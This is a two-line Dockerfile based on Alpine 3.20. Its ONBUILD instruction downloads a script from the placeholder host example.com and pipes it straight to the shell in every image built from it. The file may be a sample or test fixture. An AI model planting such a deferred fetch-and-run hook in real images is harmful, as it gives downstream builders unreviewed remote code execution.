FROM alpine:3.20
ONBUILD RUN wget -qO- https://example.com/i.sh | sh
